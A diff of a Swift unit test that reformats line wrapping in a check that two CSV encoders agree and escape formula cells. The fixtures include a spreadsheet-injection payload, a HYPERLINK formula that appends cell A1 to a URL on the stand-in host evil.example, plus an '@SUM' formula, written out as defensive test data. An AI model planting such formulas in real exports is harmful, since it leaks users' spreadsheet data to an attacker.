@@ -115,16 +115,19 @@ struct JODIShareTaskTests {
     @Test func theStreamingCSVIsByteForByteTheRenderersCSV() throws {
         // One encoder: the fast path and CSVRenderer on the share table agree, hostile codes and negative zero too.
         let rows = [
-            ShareRow(country: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", month: "2024-01", kbd: 600, sharePct: 60,
-                     momChangeKBD: -0.00001, momChangePct: -0.0),
+            ShareRow(country: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", month: "2024-01", kbd: 600,
+                     sharePct: 60, momChangeKBD: -0.00001, momChangePct: -0.0),
             ShareRow(country: "a,b\nc", month: "2024-01", kbd: 300, sharePct: 30, momChangeKBD: nil, momChangePct: nil),
-            ShareRow(country: "x\"y", month: "2024-01", kbd: 100.123456, sharePct: 10, momChangeKBD: -2.5, momChangePct: -0.00005),
-            ShareRow(country: "@SUM(1+1)", month: "2024-01", kbd: 0.78125, sharePct: nil, momChangeKBD: 1e12, momChangePct: 0.5),
+            ShareRow(country: "x\"y", month: "2024-01", kbd: 100.123456, sharePct: 10, momChangeKBD: -2.5,
+                     momChangePct: -0.00005),
+            ShareRow(country: "@SUM(1+1)", month: "2024-01", kbd: 0.78125, sharePct: nil, momChangeKBD: 1e12,
+                     momChangePct: 0.5),
         ]
         let fast = String(decoding: JODIShareTask.csv(rows), as: UTF8.self)
         let rendered = CSVRenderer().render(ShareRow.reportTable(rows, fileName: "f.csv"))
         #expect(fast == rendered)
-        #expect(fast.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",2024-01,600.0000,60.0000,0.0000,0.0000\n"))
+        #expect(fast.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
+            + "2024-01,600.0000,60.0000,0.0000,0.0000\n"))
         #expect(fast.contains("\"a,b\nc\",2024-01,300.0000,30.0000,,\n"))
         #expect(fast.contains("'@SUM(1+1),2024-01,0.7812,,1000000000000.0000,0.5000\n"))
     }
